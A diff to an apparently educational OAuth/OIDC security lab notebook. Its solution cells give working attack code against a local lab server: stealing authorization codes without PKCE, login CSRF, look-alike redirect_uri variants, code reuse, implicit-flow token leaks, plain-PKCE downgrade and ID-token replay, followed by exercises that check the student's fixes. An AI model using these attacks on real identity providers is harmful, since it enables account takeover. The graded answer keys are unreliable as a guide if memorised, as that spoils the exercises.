@@ -25,6 +25,10 @@
 # server and the client.
 
 # %%
+from urllib.parse import parse_qs, urlsplit
+
+import httpx
+
 import labkit
 from labkit.attacks import oauth
 
@@ -88,25 +92,42 @@ me.get(CLIENT + "/me").json()
 # no secret, like every mobile and single-page app — so whoever holds the code can redeem it...
 # unless the server insists on the PKCE `code_verifier` that only the real client knows.
 #
-# `oauth.victim_click(SERVER, url, intercept=prefix)` makes alice open `url`; a redirect to a URL
-# starting with `prefix` goes to the malicious app (`result["intercepted"]`) instead. Make her
-# log in to the client, take the code, and redeem it **without** a `code_verifier`. Keep the token
-# response in `stolen`.
+# `oauth.victim_click(SERVER, url, intercept=prefix)` is alice: she opens `url`, and a redirect
+# to a URL starting with `prefix` goes to the malicious app (`result["intercepted"]`) instead
+# of her browser. That is the lab playing the victim; the attack is yours.
+#
+# Write `steal_tokens(server, client)`: make alice log in to the client at `client` (its
+# `/login`) while the malicious app claims the client's callback (`client + "/callback"`),
+# take the code from the intercepted URL (`urllib.parse`), and redeem it yourself at the
+# server's token endpoint — an `httpx.post(server + "/token", data={...})` with the form of
+# RFC 6749 §4.1.3 (`grant_type`, `code`, `client_id`, `redirect_uri`) and **no**
+# `code_verifier`. Return the token response (its JSON). Success: an `access_token` whose
+# `/userinfo` is alice's, and an `id_token`. You will replay it against your fix.
+
 
 # %% labkit={"answer": "code-interception"}
-### BEGIN SOLUTION
-click = oauth.victim_click(SERVER, CLIENT + "/login", intercept=redirect_uri)
-stolen_code = oauth.query_params(click["intercepted"])["code"]
-with oauth.browser() as attacker:
-    stolen = oauth.redeem(
-        attacker, SERVER, stolen_code, client_id=client_id, redirect_uri=redirect_uri
-    ).json()
-    bearer = {"Authorization": f"Bearer {stolen['access_token']}"}
-    print(attacker.get(SERVER + "/userinfo", headers=bearer).json())  # alice's account
-### STUB
-stolen = {}  # TODO: intercept alice's code and redeem it with no code_verifier
-### END SOLUTION
+def steal_tokens(server: str, client: str) -> dict:
+    ### BEGIN SOLUTION
+    callback = client + "/callback"
+    click = oauth.victim_click(server, client + "/login", intercept=callback)
+    code = parse_qs(urlsplit(click["intercepted"]).query)["code"][0]
+    form = {
+        "grant_type": "authorization_code",
+        "code": code,
+        "client_id": client_id,
+        "redirect_uri": callback,
+    }
+    return httpx.post(server + "/token", data=form).json()
+    ### STUB
+    return {}  # TODO: intercept alice's code, exchange it at /token with no code_verifier
+    ### END SOLUTION
+
+
+stolen = steal_tokens(SERVER, CLIENT)
 print(sorted(stolen))
+if "access_token" in stolen:
+    bearer = {"Authorization": f"Bearer {stolen['access_token']}"}
+    print(httpx.get(SERVER + "/userinfo", headers=bearer).json())
 
 # %% labkit={"check": "code-interception"}
 lab.check("code-interception", stolen.get("access_token"))
@@ -120,17 +141,32 @@ lab.check("code-interception", stolen.get("access_token"))
 # a document, a search — is now yours.
 #
 # In carol's browser (`me`) follow `CLIENT + "/login"` with `stop_at=redirect_uri`; the callback
-# URL you did not visit is `trip.stopped_at`. Send it to alice, and keep it in `forged`.
+# URL you did not visit is `trip.stopped_at`. Send it to alice with `oauth.victim_click`, look
+# at where her click landed (`["final"]`), and keep the URL in `forged`. Success: alice's
+# `/me` at the client now answers with carol's account.
+#
+# One catch, and it is real: if alice's browser has a login of its own in progress — Attack 1
+# left one, since the malicious app took its callback — the client sends *her* PKCE verifier
+# with *your* code, the server refuses the pair, and her click lands on `PKCE verification
+# failed`. That failed callback also ended her pending login: forge a new callback and send
+# it again.
 
 # %% labkit={"answer": "login-csrf"}
 ### BEGIN SOLUTION
-trip = oauth.follow(me, CLIENT + "/login", stop_at=redirect_uri)
-forged = trip.stopped_at
-oauth.victim_click(SERVER, forged)
+for attempt in range(2):
+    trip = oauth.follow(me, CLIENT + "/login", stop_at=redirect_uri)
+    forged = trip.stopped_at
+    landed = oauth.victim_click(SERVER, forged)["final"]
+    print(f"attempt {attempt + 1}: alice landed on", landed["status"], landed["body"][:90])
+    if landed["status"] == 200:
+        break
 ### STUB
-forged = None  # TODO: your own callback URL, delivered by alice's browser
+forged = None  # TODO: your own callback URL, delivered to alice
 ### END SOLUTION
-oauth.victim_click(SERVER, CLIENT + "/me")["final"]["body"]  # who is alice, for the client?
+
+# %%
+# who is alice, for the client?
+print(oauth.victim_click(SERVER, CLIENT + "/me")["final"]["body"])
 
 # %% labkit={"check": "login-csrf"}
 lab.check("login-csrf", forged)
@@ -138,35 +174,50 @@ lab.check("login-csrf", forged)
 # %% [markdown]
 # ## Attack 3 — lax `redirect_uri` matching
 #
-# The server "helpfully" accepts redirect URIs that merely *resemble* the registered one. Each
-# variant below differs in one way; RFC 9700 §4.1 explains how each reaches an attacker in the
-# real world (an open redirect behind `..`, a sub-path an attacker can post to, a second
-# service on another port, user info before the real host with `@`...). Watch what the server
-# answers:
+# The server "helpfully" accepts redirect URIs that merely *resemble* the registered one.
+# RFC 9700 §4.1 lists how a look-alike reaches an attacker in the real world: a sub-path an
+# attacker can post to (`/callback/attacker`), an open redirect behind `..`, a parameter the
+# callback page forwards (`?next=`), user info before the real host (`http://host:port@evil`),
+# another service on the same host with another port, another letter case or scheme.
+#
+# Write `lookalikes(registered, attacker)`: a dict of your variants of `registered`, each
+# differing from it in one way (`urllib.parse.urlsplit(...)._replace(netloc=...).geturl()`
+# edits one part); make at least one land on `attacker`'s origin (in this lab the attacker's
+# site is on the client's host, on another port). The cell then asks the server about each.
+# Success: the server redirects with a code to a variant whose `Location` is on `ATTACKER`.
+# The check sends alice a link with each of your variants and watches the attacker's site.
 
-# %%
-tricks = oauth.redirect_uri_tricks(redirect_uri, ATTACKER)
-for name, uri in tricks.items():
-    answer = me.get(oauth.authorize_url(SERVER, response_type="code", client_id=client_id, redirect_uri=uri))
-    print(f"{name:<12} {answer.status_code}  {answer.headers.get('location', '')[:90]}")
-
-# %% [markdown]
-# Every one gets a code. Two of them land on the attacker's site in this lab. Send alice an
-# authorization link with such a `redirect_uri` and look at what the attacker's site received.
-# Keep the `redirect_uri` you used in `evil_uri`.
 
 # %% labkit={"answer": "redirect-uri"}
-### BEGIN SOLUTION
-evil_uri = tricks["port"]
-link = oauth.authorize_url(SERVER, response_type="code", client_id=client_id, redirect_uri=evil_uri, scope="openid email")
-oauth.victim_click(SERVER, link)
-### STUB
-evil_uri = None  # TODO: a redirect_uri the server accepts that lands on ATTACKER
-### END SOLUTION
-oauth.captured(ATTACKER)[-2:]
+def lookalikes(registered: str, attacker: str) -> dict[str, str]:
+    ### BEGIN SOLUTION
+    reg, evil = urlsplit(registered), urlsplit(attacker)
+    return {
+        "sub-path": registered + "/attacker",
+        "..": registered + "/../attacker",
+        "extra query": registered + "?next=" + attacker,
+        "userinfo @": reg._replace(netloc=f"{reg.netloc}@{evil.netloc}").geturl(),
+        "port": reg._replace(netloc=f"{reg.hostname}:{evil.port}").geturl(),
+    }
+    ### STUB
+    return {}  # TODO: variants of `registered`, one change each; some landing on `attacker`
+    ### END SOLUTION
+
+
+tricks = lookalikes(redirect_uri, ATTACKER)
+for name, uri in tricks.items():
+    query = {"response_type": "code", "client_id": client_id, "redirect_uri": uri}
+    answer = me.get(SERVER + "/authorize", params=query)
+    print(f"{name:<12} {answer.status_code}  {answer.headers.get('location', '')[:90]}")
 
 # %% labkit={"check": "redirect-uri"}
-lab.check("redirect-uri", evil_uri)
+lab.check("redirect-uri", tricks)
+
+# %% [markdown]
+# What the attacker's site received from alice's clicks:
+
+# %%
+print(oauth.captured(ATTACKER)[-2:])
 
 # %% [markdown]
 # ## Attack 4 — a used code, used again
@@ -181,9 +232,9 @@ lab.check("redirect-uri", evil_uri)
 ### BEGIN SOLUTION
 click = oauth.victim_click(SERVER, CLIENT + "/login")
 callback = next(h["url"] for h in click["history"] if h["url"].startswith(redirect_uri))
-used_code = oauth.query_params(callback)["code"]
-with oauth.browser() as attacker:
-    again = oauth.redeem(attacker, SERVER, used_code, client_id=client_id, redirect_uri=redirect_uri)
+used_code = parse_qs(urlsplit(callback).query)["code"][0]
+form = {"grant_type": "authorization_code", "code": used_code, "client_id": client_id}
+again = httpx.post(SERVER + "/token", data={**form, "redirect_uri": redirect_uri})
 print(again.status_code, sorted(again.json()))
 ### STUB
 used_code = None  # TODO: a code from alice's history, redeemed once more
@@ -204,11 +255,11 @@ lab.check("code-reuse", used_code)
 # %% labkit={"answer": "other-client"}
 ### BEGIN SOLUTION
 click = oauth.victim_click(SERVER, CLIENT + "/login", intercept=redirect_uri)
-code = oauth.query_params(click["intercepted"])["code"]
-with oauth.browser() as attacker:
-    evil_tokens = oauth.redeem(
-        attacker, SERVER, code, client_id=evil_id, client_secret=evil_secret, redirect_uri=redirect_uri
-    ).json()
+code = parse_qs(urlsplit(click["intercepted"]).query)["code"][0]
+form = {"grant_type": "authorization_code", "code": code, "redirect_uri": redirect_uri}
+evil_tokens = httpx.post(
+    SERVER + "/token", data={**form, "client_id": evil_id, "client_secret": evil_secret}
+).json()
 ### STUB
 evil_tokens = {}  # TODO: alice's code, redeemed by evil-app
 ### END SOLUTION
@@ -224,16 +275,18 @@ lab.check("other-client", evil_tokens.get("access_token"))
 # redirect URL's fragment. The seed says it plainly: *NEVER use Implicit Flow (deprecated, tokens
 # exposed in URL)*; RFC 9700 §2.1.2 agrees. A fragment never reaches a server, but it reaches
 # every script on the landing page — the attacker's page below has one — and the browser
-# history. Send alice an implicit-flow link (with one of your `tricks` as `redirect_uri`) and
-# take the token from the `Location` in her history. Keep it in `leaked_token`.
+# history. Send alice an implicit-flow link (`SERVER + "/authorize?" + urlencode({...})` with
+# `response_type=token` and one of your `tricks` as `redirect_uri`) and take the token from
+# the fragment of the `Location` in her history (`click["history"]`). Keep it in
+# `leaked_token`.
 
 # %% labkit={"answer": "implicit-leak"}
 ### BEGIN SOLUTION
-link = oauth.authorize_url(SERVER, response_type="token", client_id=client_id, redirect_uri=tricks["port"])
-click = oauth.victim_click(SERVER, link)
+query = {"response_type": "token", "client_id": client_id, "redirect_uri": tricks["port"]}
+click = oauth.victim_click(SERVER, str(httpx.URL(SERVER + "/authorize", params=query)))
 location = click["history"][0]["location"]
 print(location[:120])
-leaked_token = oauth.fragment_params(location)["access_token"]
+leaked_token = parse_qs(urlsplit(location).fragment)["access_token"][0]
 ### STUB
 leaked_token = None  # TODO: the access_token from the implicit-flow redirect
 ### END SOLUTION
@@ -257,16 +310,17 @@ lab.check("implicit-leak", leaked_token)
 # %% labkit={"answer": "plain-downgrade"}
 ### BEGIN SOLUTION
 seen = "the-challenge-anyone-could-read-in-the-request-0123"
-link = oauth.authorize_url(
-    SERVER, response_type="code", client_id=client_id, redirect_uri=redirect_uri,
-    scope="openid email", code_challenge=seen, code_challenge_method="plain",
-)
+query = {
+    "response_type": "code", "client_id": client_id, "redirect_uri": redirect_uri,
+    "scope": "openid email", "code_challenge": seen, "code_challenge_method": "plain",
+}  # fmt: skip
+link = str(httpx.URL(SERVER + "/authorize", params=query))
 click = oauth.victim_click(SERVER, link, intercept=redirect_uri)
-code = oauth.query_params(click["intercepted"])["code"]
-with oauth.browser() as attacker:
-    plain_tokens = oauth.redeem(
-        attacker, SERVER, code, client_id=client_id, redirect_uri=redirect_uri, code_verifier=seen
-    ).json()
+code = parse_qs(urlsplit(click["intercepted"]).query)["code"][0]
+form = {"grant_type": "authorization_code", "code": code, "client_id": client_id}
+plain_tokens = httpx.post(
+    SERVER + "/token", data={**form, "redirect_uri": redirect_uri, "code_verifier": seen}
+).json()
 ### STUB
 plain_tokens = {}  # TODO: a plain-PKCE code redeemed with the challenge as its verifier
 ### END SOLUTION
@@ -283,14 +337,16 @@ lab.check("plain-downgrade", plain_tokens.get("access_token"))
 # `nonce`. The nonce is what ties an ID token to the login that asked for it (OIDC Core
 # §3.1.2.1, §3.1.3.7 step 11); without it, *any* ID token issued to this client is a
 # reusable login. Attack 1 gave you one of alice's. Replay it to the client in a fresh
-# browser of your own, and keep it in `replayed`.
+# browser of your own (a new `httpx.Client`: its own cookie jar), and keep it in `replayed`.
+# Success: that browser's `/me` at the client is alice. ID tokens here live 5 minutes (their
+# `exp`); if Attack 1 was longer ago, `steal_tokens(SERVER, CLIENT)` gets a fresh one.
 
 # %% labkit={"answer": "nonce-replay"}
 ### BEGIN SOLUTION
 replayed = stolen["id_token"]
-with oauth.browser() as attacker:
-    attacker.get(CLIENT + "/callback", params={"id_token": replayed})
-    print(attacker.get(CLIENT + "/me").json())
+with httpx.Client(base_url=CLIENT, follow_redirects=True) as attacker:
+    attacker.get("/callback", params={"id_token": replayed})
+    print(attacker.get("/me").json())
 ### STUB
 replayed = None  # TODO: alice's ID token, replayed to the client
 ### END SOLUTION
@@ -338,6 +394,15 @@ def verify_pkce(verifier, challenge, method) -> bool:
 lab.check("pkce", verify_pkce=verify_pkce)
 
 # %% [markdown]
+# Your `steal_tokens` from Attack 1, replayed against a server running your `verify_pkce`
+# (with its own client web app and its own alice):
+
+# %%
+fixed = lab.patched(verify_pkce=verify_pkce)
+fixed_callback = httpx.get(fixed.url + "/api/_lab/clients").json()[client_id]["redirect_uris"][0]
+print("your Attack 1 now gets:", steal_tokens(fixed.url, fixed_callback.removesuffix("/callback")))
+
+# %% [markdown]
 # ## Fix 2 — exact redirect URIs (server)
 #
 # Write `validate_redirect_uri(registered, requested) -> bool`. RFC 9700 §2.1: "exact string
@@ -357,6 +422,17 @@ def validate_redirect_uri(registered: str, requested: str) -> bool:
 
 # %% labkit={"check": "redirect-uri-exact"}
 lab.check("redirect-uri-exact", validate_redirect_uri=validate_redirect_uri)
+
+# %% [markdown]
+# Your `lookalikes` from Attack 3, replayed against a server running your function:
+
+# %%
+fixed = lab.patched(validate_redirect_uri=validate_redirect_uri)
+fixed_callback = httpx.get(fixed.url + "/api/_lab/clients").json()[client_id]["redirect_uris"][0]
+for name, uri in lookalikes(fixed_callback, ATTACKER).items():
+    query = {"response_type": "code", "client_id": client_id, "redirect_uri": uri}
+    answer = httpx.get(fixed.url + "/authorize", params=query)
+    print(f"{name:<12} {answer.status_code}  {answer.headers.get('location', '')[:60]}")
 
 # %% [markdown]
 # ## Fix 3 — codes: once, briefly, for one client (server)
